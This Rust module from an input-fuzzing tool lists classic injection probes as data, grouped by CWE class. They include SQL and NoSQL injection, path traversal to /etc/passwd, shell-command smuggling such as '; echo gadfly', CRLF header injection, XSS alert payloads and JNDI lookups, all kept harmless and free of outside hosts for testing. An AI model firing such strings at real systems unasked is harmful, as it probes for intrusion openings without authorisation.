//! Hostile texts by class, as data. Main table: [`PAYLOADS`].
//!
//! They are the classic probes of each kind of interpreter, written for this tool after the kinds that the OWASP Web
//! Security Testing Guide (section 4.7, input validation) and the CWE entries named beside each class describe. They
//! aim at errors and hangs; none deletes, waits longer than a moment, or reaches out to another host.

/// A text and what it is meant for.
pub(crate) struct Payload {
    /// The class, as an intent names it.
    pub class: &'static str,
    /// The text.
    pub text: &'static str,
}

const fn payload(class: &'static str, text: &'static str) -> Payload {
    Payload { class, text }
}

/// The payloads, the most telling first: one that holds a bit of all, then each class in its turn.
pub(crate) const PAYLOADS: &[Payload] = &[
    // A bit of all: quotes, format characters, braces, angle brackets, a backslash.
    payload("polyglot", "'\"`<%s%n>{}{0}${7*7}{{7*7}}\\"),
    // CWE-89.
    payload("sql", "' OR '1'='1"),
    payload("quotes", "\""),
    payload("quotes", "'"),
    // CWE-134.
    payload("format", "%s%n%x%d%@"),
    payload("format", "{0}{name}{0.__class__}"),
    // CWE-626: an embedded NUL.
    payload("control", "a\u{0}b"),
    // CWE-22.
    payload("traversal", "../../../../etc/passwd"),
    payload("traversal", "..\\..\\..\\windows\\win.ini"),
    payload("traversal", "%2e%2e%2fetc%2fpasswd"),
    payload("traversal", "/etc/passwd\u{0}.png"),
    payload("traversal", "file:///etc/passwd"),
    // CWE-176: Unicode.
    payload("unicode", "\u{202E}\u{200B}e\u{301}\u{1F600}\u{FEFF}\u{FFFF}"),
    payload("unicode", "\u{DF}\u{149}\u{130}\u{FB03}"),
    payload("unicode", "\u{FF07} OR 1=1"),
    payload("sql", "1;SELECT 1--"),
    payload("sql", "1)) OR ((1=1"),
    payload("sql", "\\' OR 1=1 -- "),
    payload("sql", "') UNION SELECT NULL,NULL-- "),
    payload("sql", "%' AND '%'='"),
    // CWE-943.
    payload("nosql", "{\"$gt\":\"\"}"),
    payload("nosql", "'; return true; var a='"),
    payload("nosql", "[$ne]"),
    // CWE-1336.
    payload("template", "{{7*7}}"),
    payload("template", "${7*7}"),
    payload("template", "<%= 7*7 %>"),
    payload("template", "#{7*7}"),
    payload("template", "*{7*7}"),
    payload("template", "{{'a'.constructor}}"),
    // CWE-78.
    payload("command", "; echo gadfly"),
    payload("command", "$(echo gadfly)"),
    payload("command", "`echo gadfly`"),
    payload("command", "| echo gadfly"),
    payload("command", "a\necho gadfly"),
    // CWE-113.
    payload("crlf", "a\r\nX-Gadfly: 1"),
    payload("crlf", "a%0d%0aX-Gadfly:%201"),
    payload("crlf", "a\u{560D}\u{560A}X-Gadfly: 1"),
    // CWE-79.
    payload("markup", "<script>alert(1)</script>"),
    payload("markup", "\"><img src=x onerror=alert(1)>"),
    payload("markup", "javascript:alert(1)"),
    // CWE-611, CWE-776: without an address, and without growth.
    payload("xml", "<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>"),
    payload("xml", "]]>"),
    payload("xml", "&#0;&undefined;"),
    // CWE-90 and CWE-643.
    payload("ldap", "*)(uid=*))(|(uid=*"),
    payload("xpath", "' or count(/*)=1 or 'a'='b"),
    // CWE-1321.
    payload("prototype", "__proto__"),
    payload("prototype", "constructor"),
    payload("prototype", "toString"),
    // CWE-1333 and CWE-185.
    payload("regex", "(a+)+$"),
    payload("regex", "["),
    payload("regex", "*"),
    payload("regex", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"),
    // CWE-1236.
    payload("spreadsheet", "=1+1"),
    payload("spreadsheet", "@SUM(1+1)"),
    // CWE-502.
    payload("serialised", "rO0ABXA="),
    payload("serialised", "O:8:\"stdClass\":0:{}"),
    payload("serialised", "!!python/none"),
    // CWE-917 and log look-ups; the name resolves to nothing.
    payload("lookup", "${env:GADFLY:-x}"),
    payload("lookup", "${jndi:x}"),
    // CWE-704: words that languages take for values.
    payload("words", "null"),
    payload("words", "undefined"),
    payload("words", "NaN"),
    payload("words", "true"),
    payload("words", "-1"),
    payload("words", "0"),
    payload("words", "1e309"),
    payload("words", "0x7fffffff"),
    payload("words", "None"),
    payload("words", "[]"),
    payload("words", "{}"),
];

/// Integers that no machine word holds, and some that only the larger ones do.
pub(crate) const HUGE: &[&str] = &[
    "9223372036854775808",
    "123456789012345678901234567890",
    "18446744073709551616",
    "-9223372036854775809",
    "2147483648",
    "-2147483649",
    "4294967296",
    "340282366920938463463374607431768211456",
];

/// The lengths of very long texts: past the usual buffers, and past the usual columns.
pub(crate) const LONG: &[usize] = &[300, 5_000, 70_000];

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn payloads_are_distinct_and_named() {
        let texts: BTreeSet<&str> = PAYLOADS.iter().map(|payload| payload.text).collect();
        assert_eq!(texts.len(), PAYLOADS.len());
        assert!(PAYLOADS.iter().all(|payload| payload.class.bytes().all(|byte| byte.is_ascii_lowercase())));
    }

    #[test]
    fn the_first_holds_a_bit_of_all() {
        for mark in ["'", "\"", "%s", "{}", "${7*7}", "<", "\\"] {
            assert!(PAYLOADS[0].text.contains(mark), "{mark}");
        }
    }
}
